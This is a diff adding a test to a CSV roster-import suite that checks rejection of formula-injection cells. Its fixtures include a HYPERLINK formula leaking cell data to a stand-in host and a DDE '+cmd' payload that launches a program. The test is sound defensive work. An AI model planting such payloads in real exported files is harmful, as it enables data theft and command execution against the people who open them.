@@ -156,6 +156,56 @@ describe('importRoster', () => {
     expect(await importRoster(app, path, { actor })).toEqual({ imported: 2, alreadyPresent: 2, rejected: [] });
   });
 
+  it('refuses cells a spreadsheet would run as formulas, naming line and column, and keeps the good rows', async () => {
+    const people = new PersonGenerator(13);
+    const row = (department: string, position = '', fullName?: string) => {
+      const p = people.next();
+      return { curp: p.curp, text: `${p.curp},${fullName ?? p.fullName},Baja California,Ensenada,${department},${position},BASE,true,2018-05-02` };
+    };
+    const rows = [
+      row('"=HYPERLINK(""http://example.test/?leak=""&A1,""Ver"")"'),
+      row('Oficialía Mayor', "+cmd|' /C calc'!A0"),
+      row('@SUM(1+1)'),
+      row('\tOficialía Mayor'),
+      row('"\t=1+1"'),
+      row('\r=1+1'),
+      row('Tesorería Municipal', '-'),
+      row('Sindicatura', '', '-Ana Pérez'),
+      row('  =1+1'),
+      // Kept: a formula sign inside a value, spaces before a quoted value, and a blank last cell on CRLF lines below.
+      row('Oficialía Mayor', 'Jefe de área - turno 2 = matutino'),
+      row('  Tesorería Municipal', ' "Auxiliar, @ventanilla"'),
+    ];
+    const path = join(dir, 'formulas.csv');
+    await writeFile(path, [HEADER, ...rows.map((r) => r.text), row('Delegaciones').text.replace(/2018-05-02$/, '')].join('\r\n') + '\r\n');
+    const before = await app.store.headPosition();
+
+    const result = await importRoster(app, path, { actor });
+    const reason = (column: string, index: number, what: string) =>
+      `${column} (column ${index}) starts with ${what}, which a spreadsheet could run as a formula: remove it`;
+    expect(result).toEqual({
+      imported: 3,
+      alreadyPresent: 0,
+      rejected: [
+        { line: 2, reason: reason('department', 5, '"="') },
+        { line: 3, reason: reason('position', 6, '"+"') },
+        { line: 4, reason: reason('department', 5, '"@"') },
+        { line: 5, reason: reason('department', 5, 'a tab') },
+        { line: 6, reason: reason('department', 5, 'a tab') },
+        { line: 7, reason: reason('department', 5, 'a carriage return') },
+        { line: 8, reason: reason('position', 6, '"-"') },
+        { line: 9, reason: reason('full_name', 2, '"-"') },
+        { line: 10, reason: reason('department', 5, '"="') },
+      ],
+    });
+    // The refused rows appended nothing; the three good ones did.
+    await app.readModel.waitFor(await app.store.headPosition());
+    expect((await app.store.readAll({ after: before, limit: 1_000 })).filter((e) => e.type === 'ServantRegistered')).toHaveLength(3);
+    for (const refused of rows.slice(0, 9)) expect(await servantWithCurp(refused.curp)).toBeNull();
+    expect(await servantWithCurp(rows[9].curp)).toMatchObject({ department: 'Oficialía Mayor', position: 'Jefe de área - turno 2 = matutino' });
+    expect(await servantWithCurp(rows[10].curp)).toMatchObject({ department: 'Tesorería Municipal', position: 'Auxiliar, @ventanilla' });
+  });
+
   it('stops at a quote never closed instead of reading the rest of the file into one row', async () => {
     const path = join(dir, 'unclosed.csv');
     const filler = 'AAAA000101HBCXXX00,Nadie,Baja California,Tecate,X,,BASE,true,\n'.repeat(5_000);
